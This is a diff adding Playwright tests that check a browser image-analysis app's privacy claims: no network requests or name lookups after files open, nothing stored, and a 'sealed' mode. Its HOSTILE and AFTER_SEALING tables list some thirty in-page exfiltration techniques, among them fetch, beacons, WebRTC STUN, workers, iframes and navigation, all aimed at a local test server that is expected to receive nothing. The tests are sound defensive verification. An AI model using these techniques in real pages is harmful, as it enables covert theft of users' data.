@@ -1,0 +1,336 @@
+/** What is promised of privacy, checked from outside: every request and name lookup, and a server that waits for a leak. */
+import dgram from 'node:dgram';
+import { existsSync, readFileSync, rmSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { chromium } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { choose, csv, expect, open, opened, settled, test, volumeScanned } from './helpers.ts';
+import { dist, many, models, out, patches, scanFile } from './fixtures.ts';
+import config from './playwright.config.ts';
+
+/** The policy's refusals are errors in the console: wanted here. */
+const REFUSALS = /violates|Content.Security.Policy|Refused|Failed to load resource|TrustedScriptURL|TrustedHTML|Failed to fetch|navigation|was stopped|ERR_BLOCKED|sealed|requires 'Trusted|preloaded/i;
+
+const selfTested = async (page: Page): Promise<Map<string, string>> => {
+  await page.locator('#self-test').click();
+  await expect(page.locator('#self-test')).not.toHaveAttribute('aria-busy', 'true', { timeout: 60_000 });
+  await expect(page.locator('#self-test-result')).toContainText('refused');
+  const rows = page.locator('#self-test-rows tr');
+  return new Map(await rows.evaluateAll((all) => all.map((row): [string, string] => [row.querySelector('td')?.textContent ?? '', (row as HTMLElement).dataset['result'] ?? ''])));
+};
+
+/** Not one way out; the file's own count of them is not trusted. */
+function allRefused(tried: Map<string, string>, least: number): void {
+  expect(tried.size).toBeGreaterThanOrEqual(least);
+  expect([...tried].filter(([, result]) => !['refused-by-policy', 'taken-away', 'stopped'].includes(result))).toEqual([]);
+}
+
+test('the self-test: every way out is refused, before sealing and, with the own server, after it; work goes on', async ({ page, site, watch }) => {
+  watch.expectErrors(REFUSALS);
+  watch.expectRefused();
+  await open(page, site.url);
+  await expect(page.locator('#requests')).toContainText('No file has been opened yet');
+  const before = await selfTested(page);
+  allRefused(before, 24);
+  expect(before.get('A worker from elsewhere')).toBe('refused-by-policy');
+  await choose(page, patches().slice(0, 3));
+  await settled(page, 3);
+  await page.locator('#seal').click();
+  await expect(page.locator('#seal')).toHaveText('This page is sealed', { timeout: 60_000 });
+  allRefused(await selfTested(page), before.size + 5);
+  await expect(page.locator('#self-test-result')).toContainText('All');
+  expect(page.url()).toBe(site.url);
+
+  // Everything goes on working: patches, threads, another network, a scan, exports; with fresh workers, under the new policy.
+  await choose(page, many().slice(0, 60));
+  await settled(page, 63);
+  const [, second] = models();
+  if (second) {
+    await page.locator(`input[name=network][value=${second.id}]`).check({ force: true });
+    await expect(page.locator('#networks label').filter({ hasText: 'paper' })).toContainText('In use');
+  }
+  await page.locator('input[name=engine][value=reference]').check({ force: true });
+  await expect(page.locator('#engine-facts')).toContainText('burn-flex');
+  await page.locator('input[name=engine][value=automatic]').check({ force: true });
+  await expect(page.locator('#engine-facts')).toContainText('Nodulens engine');
+  await choose(page, [scanFile]);
+  await opened(page, 24);
+  await page.locator('#scan-slice').click();
+  await expect(page.locator('#scanning-text')).toContainText('in slice', { timeout: 60_000 });
+  expect((await csv(page)).text.split('\r\n')).toHaveLength(65);
+  // Loading anew opens it again.
+  await page.reload();
+  await expect(page.locator('#seal')).toHaveText('Seal this page');
+});
+
+test('a self-test that finds a way out says so', async ({ page, site, watch }) => {
+  watch.expectErrors(REFUSALS);
+  watch.expectRefused();
+  // A browser whose policy fails to see images: what the test must notice.
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', (event) => {
+      if (event.blockedURI.includes('/image')) event.stopImmediatePropagation();
+    }, true);
+  });
+  await open(page, site.url);
+  const tried = await selfTested(page);
+  expect([...tried].filter(([, result]) => result === 'got-out').map(([name]) => name)).toEqual(['Data in the address of an image']);
+  await expect(page.locator('#self-test-result')).toContainText('NOT refused');
+});
+
+/** What a hostile program within the page would try; each in its own right, from the page's own world. */
+const HOSTILE: Record<string, (to: string) => unknown> = {
+  fetch: (to) => fetch(`${to}fetch`, { method: 'POST', mode: 'no-cors', body: 'image' }),
+  image: (to) => Object.assign(new Image(), { src: `${to}image` }),
+  'own window of a frame': (to) => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    return (frame.contentWindow as typeof globalThis & Window).fetch(`${to}frame`);
+  },
+  'frame made by another document': (to) => {
+    const frame = document.implementation.createHTMLDocument('').createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
+    document.body.append(frame);
+    const stun = new URL(to).host;
+    const peer = new ((frame as HTMLIFrameElement).contentWindow as typeof globalThis & Window).RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
+    peer.createDataChannel('x');
+    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  },
+  markup: (to) => document.body.insertAdjacentHTML('beforeend', `<img src="${to}markup"><iframe src="${to}markup-frame"></iframe>`),
+  parser: (to) => document.body.append(...new DOMParser().parseFromString(`<iframe src="${to}parser"></iframe>`, 'text/html').body.children),
+  fragment: (to) => document.body.append(document.createRange().createContextualFragment(`<iframe src="${to}fragment"></iframe>`)),
+  'web rtc': async (to) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'web socket': (to) => new WebSocket(to.replace('http', 'ws')),
+  beacon: (to) => navigator.sendBeacon(`${to}beacon`, 'image'),
+  window: (to) => window.open(`${to}window`),
+  form: (to) => {
+    const form = Object.assign(document.createElement('form'), { action: `${to}form`, method: 'post', target: '_blank' });
+    document.body.append(form);
+    form.submit();
+  },
+  import: (to) => import(`${to}import.js`),
+  script: (to) => document.head.append(Object.assign(document.createElement('script'), { src: `${to}script.js` })),
+  prefetch: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${to}prefetch` })),
+  sheet: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}sheet` })),
+  'worker of a blob': (to) =>
+    new Worker(URL.createObjectURL(new Blob([`fetch('${to}worker', { mode: 'no-cors' }); importScripts('${to}worker.js');`]))),
+  'worker of a trusted blob': (to) => {
+    const url = URL.createObjectURL(new Blob([`fetch('${to}worker', { mode: 'no-cors' }); importScripts('${to}worker.js');`]));
+    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } } };
+    return new Worker(trustedTypes.createPolicy('nodulens', { createScriptURL: (text: string) => text }).createScriptURL(url));
+  },
+  'service worker': (to) => navigator.serviceWorker.register(`${to}service-worker.js`),
+  background: (to) => Object.assign(document.body.style, { backgroundImage: `url(${to}background)` }),
+  font: (to) => new FontFace('x', `url(${to}font)`).load(),
+};
+/** What only sealing refuses. */
+const AFTER_SEALING: Record<string, (to: string) => unknown> = {
+  'going there': (to) => location.assign(`${to}navigate`),
+  'a link to a new window': (to) => Object.assign(document.createElement('a'), { href: `${to}link`, target: '_blank' }).click(),
+  'a click that is made up': (to) => Object.assign(document.createElement('a'), { href: `${to}made-up`, target: '_blank' }).dispatchEvent(new MouseEvent('click', { bubbles: true })),
+  'a download': (to) => Object.assign(document.createElement('a'), { href: `${to}download`, download: 'x' }).click(),
+  'a refresh': (to) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}refresh` })),
+  'its own server': () => fetch('./icon.svg?image'),
+  'its own server, by an image': () => Object.assign(new Image(), { src: './icon.svg?image' }),
+  'its own server, by loading anew': () => {
+    history.replaceState(null, '', '?image');
+    location.reload();
+  },
+};
+
+for (const sealed of [false, true]) {
+  test(`a hostile program in the page gets nothing out${sealed ? ' of a sealed page, not even to its own server' : ''}`, async ({ page, site, watch }) => {
+    watch.expectErrors(/./);
+    watch.expectRefused();
+    const heard: string[] = [];
+    const server = http.createServer((request, response) => {
+      heard.push(`${request.method} ${request.url}`);
+      response.setHeader('access-control-allow-origin', '*');
+      response.end();
+    });
+    server.on('upgrade', (request, socket) => {
+      heard.push(`upgrade ${request.url}`);
+      socket.destroy();
+    });
+    server.on('connection', () => heard.push('connection'));
+    const port = await new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
+    const stun = dgram.createSocket('udp4');
+    stun.on('message', () => heard.push('STUN'));
+    await new Promise<void>((resolve) => stun.bind(port, '127.0.0.1', resolve));
+    try {
+      await open(page, site.url);
+      // The evil server can be reached from this browser: otherwise nothing here could fail.
+      const free = await page.context().newPage();
+      await free.goto(`http://127.0.0.1:${port}/reachable`);
+      await free.close();
+      expect(heard).toContain('GET /reachable');
+      heard.length = 0;
+      if (sealed) {
+        await page.locator('#seal').click();
+        await expect(page.locator('#seal')).toHaveText('This page is sealed', { timeout: 60_000 });
+        await expect(page.locator('#engine-facts')).toContainText('Nodulens engine');
+      }
+      const asked: string[] = [];
+      // Those that the policy refuses are reported as well; they failed, and say so.
+      page.context().on('request', (request) => setTimeout(() => {
+        if (!/csp/i.test(request.failure()?.errorText ?? '')) asked.push(request.url());
+      }, 40));
+      const started = page.workers().length;
+      for (const [name, attempt] of Object.entries({ ...HOSTILE, ...(sealed ? AFTER_SEALING : {}) })) {
+        await page.evaluate(`Promise.resolve().then(() => (${attempt.toString()})('http://127.0.0.1:${port}/')).then(() => undefined, () => undefined)`).catch(() => undefined);
+        await page.waitForTimeout(60);
+        expect(heard, name).toEqual([]);
+        // Loading anew opens the page again, and takes nothing along.
+        if (sealed) expect(asked.filter((url) => !url.startsWith('blob:') && !(url === site.url && name.endsWith('anew'))), name).toEqual([]);
+      }
+      await page.waitForTimeout(1000);
+      expect(heard).toEqual([]);
+      expect(page.context().pages()).toHaveLength(1);
+      expect(page.url().split('?')[0]).toBe(site.url);
+      if (!sealed) expect(page.workers()).toHaveLength(started);
+    } finally {
+      server.close();
+      stun.close();
+    }
+  });
+}
+
+interface NetLog {
+  constants: { logEventTypes: Record<string, number> };
+  events: { type: number; params?: Record<string, unknown> }[];
+}
+
+/**
+ * Addresses and names in a browser's own log of its network that a page had a part in. Chromium's own services (updates, account)
+ * have neither an origin of a page nor its partition of the network.
+ */
+function reached(file: string, origin: string): { urls: Set<string>; names: Set<string> } {
+  const text = readFileSync(file, 'utf8').trimEnd();
+  // Whole where the browser ended in order; otherwise its list is open.
+  const { constants, events } = JSON.parse(/\}\s*,$/.test(text) ? `${text.replace(/,$/, '')}]}` : text) as NetLog;
+  const types = Object.fromEntries(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
+  const found = { urls: new Set<string>(), names: new Set<string>() };
+  const site = new URL(origin).hostname;
+  for (const { type, params = {} } of events) {
+    const name = types[type] ?? '';
+    const { url, host, initiator, network_isolation_key: partition, network_anonymization_key: key } = params as Record<string, string | undefined>;
+    if (name === 'URL_REQUEST_START_JOB' && url && (initiator !== 'not an origin' || partition?.includes(site))) found.urls.add(url);
+    if (name === 'HOST_RESOLVER_MANAGER_JOB' && host && !/^null|google\.com/.test(key ?? 'null')) found.names.add(host);
+  }
+  return found;
+}
+
+test('a whole session, in the browser’s own log of its network: only this page’s files, no lookup of a name, and none after a file is open', async ({ site }) => {
+  const log = path.join(out, 'network.json');
+  rmSync(log, { force: true });
+  const { launchOptions } = config.use ?? {};
+  const browser = await chromium.launch({ ...launchOptions, args: [...(launchOptions?.args ?? []), `--log-net-log=${log}`, '--net-log-capture-mode=IncludeSensitive',
+    // Chromium would ask Google what the fields of any page are for.
+    '--disable-features=AutofillServerCommunication'] });
+  const asked: { url: string; method: string; body: boolean }[] = [];
+  let atOpening = 0;
+  try {
+    const context = await browser.newContext({ acceptDownloads: true });
+    context.on('request', (request) => asked.push({ url: request.url(), method: request.method(), body: request.postData() !== null }));
+    const page = await context.newPage();
+    await open(page, site.url);
+    // The page fetches the reader, and what works without a network, when it has nothing else to do.
+    await page.waitForLoadState('networkidle');
+    await expect.poll(() => asked.some(({ url }) => url.endsWith('/pkg/reader/nodulens_bg.wasm'))).toBe(true);
+    await page.waitForLoadState('networkidle');
+    atOpening = asked.length;
+    await choose(page, many().slice(0, 80));
+    await settled(page, 80);
+    await csv(page);
+    await choose(page, [scanFile]);
+    await opened(page, 24);
+    await volumeScanned(page);
+    for (const button of ['#findings-csv', '#findings-json', '#findings-report', '#heat-png']) {
+      const download = page.waitForEvent('download');
+      await page.locator(button).click();
+      expect(existsSync(await (await download).path())).toBe(true);
+    }
+    await expect(page.locator('#requests')).toHaveText('Requests since the first file was opened: 0.');
+    await expect(page.locator('#privacy-summary')).toHaveText('Privacy: 0 requests since a file was opened');
+    expect(asked.slice(atOpening).map(({ url }) => url).filter((url) => !url.startsWith('blob:'))).toEqual([]);
+    // Another network is one of the page's files, and is counted.
+    const [, second] = models();
+    if (second) {
+      await page.locator(`input[name=network][value=${second.id}]`).check({ force: true });
+      await expect(page.locator('#networks label').filter({ hasText: 'paper' })).toContainText('In use');
+      await expect(page.locator('#requests')).toContainText('opened: 1.');
+      await expect(page.locator('#requests-list')).toContainText(`models/${second.file}`);
+    }
+    expect(await context.cookies()).toEqual([]);
+    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
+    // A control: the log must show a lookup that does happen.
+    const control = await context.newPage();
+    await control.goto('http://control.invalid/').catch(() => undefined);
+    await control.close();
+  } finally {
+    await browser.close();
+  }
+  const own = new URL(site.url);
+  const { urls, names } = reached(log, own.origin);
+  const controlled = (text: string): boolean => text.includes('control.invalid');
+  expect([...urls].some(controlled)).toBe(true);
+  const assets = [...urls].filter((url) => !/^(data|blob|chrome)/.test(url) && !controlled(url));
+  expect(assets.length).toBeGreaterThan(8);
+  for (const url of assets) {
+    const { origin, pathname, search } = new URL(url);
+    expect(origin, url).toBe(own.origin);
+    expect(search, url).toBe('');
+    expect(existsSync(path.join(dist, pathname.endsWith('/') ? `${pathname}index.html` : pathname)), url).toBe(true);
+  }
+  expect(asked.filter(({ method, body }) => method !== 'GET' || body)).toEqual([]);
+  expect([...names].filter(controlled).length).toBeGreaterThan(0);
+  expect([...names].filter((name) => !controlled(name))).toEqual([]);
+  console.log(`    ${asked.length} requests, ${assets.length} addresses, each a file of the page; no name looked up`);
+});
+
+test('what is kept: nothing, choices where the user says so, and nothing after “Forget everything”', async ({ page, site }) => {
+  await open(page, site.url);
+  await choose(page, patches().slice(0, 2));
+  await settled(page, 2);
+  const stored = (): Promise<string[]> => page.evaluate(() => Object.values({ ...localStorage }) as string[]);
+  expect(await stored()).toEqual([]);
+  await page.locator('#remember').check();
+  await page.locator('input[name=network][value=paper]').check({ force: true });
+  await expect(page.locator('#networks label').filter({ hasText: 'paper' })).toContainText('In use');
+  expect(await stored()).toEqual([JSON.stringify({ engine: 'automatic', network: 'paper' })]);
+  await page.reload();
+  await expect(page.locator('#networks label').filter({ hasText: 'paper' })).toContainText('In use');
+  await expect(page.locator('#remember')).toBeChecked();
+  await choose(page, patches().slice(0, 2));
+  await settled(page, 2);
+  await page.locator('#forget').click();
+  await expect(page.locator('#forget-note')).toContainText('Forgotten');
+  await expect(page.locator('#results')).toBeHidden();
+  await expect(page.locator('#remember')).not.toBeChecked();
+  expect(await stored()).toEqual([]);
+  expect(await page.evaluate(async () => [(await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length])).toEqual([0, 0]);
+  await page.reload();
+  await expect(page.locator('#networks label').filter({ hasText: 'Compact' })).toContainText('In use');
+});
+
+for (const [name, spoil] of [
+  ['full', () => { Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }; }],
+  ['refused', () => Object.defineProperty(window, 'localStorage', { get: () => { throw new DOMException('no', 'SecurityError'); } })],
+] as const) {
+  test(`storage that is ${name}: everything works but remembering, and the page says so`, async ({ page, site }) => {
+    await page.addInitScript(spoil);
+    await open(page, site.url);
+    await page.locator('#remember').click();
+    await expect(page.locator('#remember-note')).toContainText('refuses to keep');
+    await expect(page.locator('#remember')).not.toBeChecked();
+    await choose(page, patches().slice(0, 2));
+    await settled(page, 2);
+    await page.locator('#forget').click();
+    await expect(page.locator('#forget-note')).toContainText('Forgotten');
+  });
+}
